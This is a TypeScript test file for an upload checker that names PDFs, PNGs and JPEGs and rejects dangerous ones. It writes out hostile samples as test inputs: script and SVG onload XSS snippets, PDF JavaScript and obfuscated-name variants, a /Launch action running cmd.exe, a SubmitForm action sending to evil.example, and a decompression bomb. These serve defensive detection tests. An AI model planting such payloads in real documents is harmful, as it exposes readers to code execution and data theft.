import { deflateSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { needReaders } from '#platform/server/print/testing.ts';
import { chunk, hidden, jpegOf, pdfOf, pngOf, rawPdf } from './testing/made-files.ts';
import { whatItIs } from './what-it-is.ts';

needReaders('pdftoppm');

const text = (words: string) => Buffer.from(words, 'latin1');
let jpeg: Buffer;
let pdf: Buffer;
beforeAll(async () => {
  [jpeg, pdf] = [await jpegOf('Foto'), await pdfOf('Hasil', 3)];
});

describe('a file', () => {
  it('is what its content says, with its pages', () => {
    expect(whatItIs(pdf)).toEqual({ contentType: 'application/pdf', pages: 3 });
    expect(whatItIs(pngOf())).toEqual({ contentType: 'image/png', pages: 1 });
    expect(whatItIs(jpeg)).toEqual({ contentType: 'image/jpeg', pages: 1 });
    expect(whatItIs(rawPdf())).toEqual({ contentType: 'application/pdf', pages: 1 });
    expect(whatItIs(rawPdf(hidden('<< /Type /Page /Parent 2 0 R >>')))).toMatchObject({ pages: 2 });
  });

  it('may have behind its end what cameras and careless programs leave there', () => {
    expect(whatItIs(Buffer.concat([jpeg, Buffer.alloc(64), jpeg]))).toMatchObject({
      contentType: 'image/jpeg',
    });
    expect(whatItIs(Buffer.concat([pdf, text('\r\n\r\n')]))).toMatchObject({
      contentType: 'application/pdf',
    });
  });

  it.each([
    ['a page', '<!DOCTYPE html><script>alert(1)</script>'],
    ['a drawing with a script in it', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['an archive', 'PK\x03\x04\x14\0\0\0'],
    ['a program', 'MZ\x90\0\x03\0\0\0'],
    ['words', 'Hemoglobin 12.1'],
    ['a picture that browsers know but nobody scans to', 'GIF89a\x01\0\x01\0'],
    ['a PDF behind something else', `\n<html>%PDF-1.7\n1 0 obj << /Type /Page >>\n%%EOF`],
  ])('that is %s is none of ours', (_what, content) => {
    expect(whatItIs(text(content))).toEqual({ fault: 'unknown' });
  });

  it.each(['II*\0', 'MM\0*', 'II+\0', 'MM\0+'])('that is a TIFF is named as one (%j)', (mark) => {
    expect(whatItIs(text(`${mark}\x08\0\0\0`))).toEqual({ fault: 'tiff' });
  });

  it.each([
    ['a PDF cut off', () => pdf.subarray(0, pdf.length - 200)],
    ['a PDF without a page', () => text('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n')],
    ['a PNG cut off', () => pngOf().subarray(0, 40)],
    ['a PNG of which a letter was changed', () => changed(pngOf(), 20)],
    ['a PNG that would fill the memory', () => pngOf(8, 8).fill(0x7f, 16, 24)],
    [
      'a PNG that does not begin with its size',
      () => Buffer.concat([pngOf().subarray(0, 8), chunk('IEND', Buffer.alloc(0))]),
    ],
    ['a JPEG cut off', () => jpeg.subarray(0, jpeg.length - 40)],
    ['a JPEG of three letters', () => text('\xff\xd8\xff')],
    [
      'a PDF whose objects cannot be read',
      () => rawPdf('8 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nxyz\nendstream endobj\n'),
    ],
  ])('that is %s is damaged', (_what, content) => {
    expect(whatItIs(content())).toEqual({ fault: 'damaged' });
  });

  it.each([
    ['a picture with a page behind it', () => Buffer.concat([pngOf(), text('<HTML><script>')])],
    ['a picture with an archive behind it', () => Buffer.concat([jpeg, text('PK\x03\x04')])],
    ['a picture with a PDF behind it', () => Buffer.concat([pngOf(), pdf])],
    ['a PDF with an archive behind it', () => Buffer.concat([pdf, text('PK\x03\x04')])],
    ['a PDF with an archive in it', () => rawPdf('PK\x03\x04 … PK\x05\x06\n')],
    ['a PDF with much behind it', () => Buffer.concat([pdf, Buffer.alloc(2_000)])],
  ])('that is %s carries more', (_what, content) => {
    expect(whatItIs(content())).toEqual({ fault: 'carriesMore' });
  });

  it.each([
    ['encrypted', 'trailer << /Encrypt 9 0 R >>'],
    ['script', '9 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj'],
    ['script', '9 0 obj << /S /J#61vaScri#70t /JS (x) >> endobj'],
    ['script', '9 0 obj << /AcroForm << /XFA 10 0 R >> >> endobj'],
    ['launch', '9 0 obj << /S /Launch /F (cmd.exe) >> endobj'],
    ['sends', '9 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj'],
    ['attachments', '9 0 obj << /Names << /EmbeddedFiles 10 0 R >> >> endobj'],
  ])('that is a PDF and %s is named so, in the open and in a compressed stream', (fault, object) => {
    expect(whatItIs(rawPdf(`${object}\n`))).toEqual({ fault });
    expect(whatItIs(rawPdf(hidden(object)))).toEqual({ fault });
  });

  it('is looked into where the stream of objects hides behind a written-out name', () => {
    const stream = hidden('<< /S /JavaScript /JS (x) >>').toString('latin1').replace('/ObjStm', '/Obj#53tm');
    expect(whatItIs(rawPdf(text(stream)))).toEqual({ fault: 'script' });
  });

  it('does not fill the memory with what it unpacks', () => {
    const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024));
    const head = `8 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${bomb.length} >> stream\n`;
    expect(whatItIs(rawPdf(head, bomb, '\nendstream endobj\n'))).toEqual({ fault: 'damaged' });
  });

  it('may speak of what it does not do', () => {
    expect(whatItIs(rawPdf('9 0 obj << /JavaScriptCourse true /Launched (no) >> endobj\n'))).toMatchObject({
      pages: 1,
    });
  });
});

function changed(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ 0xff;
  return copy;
}
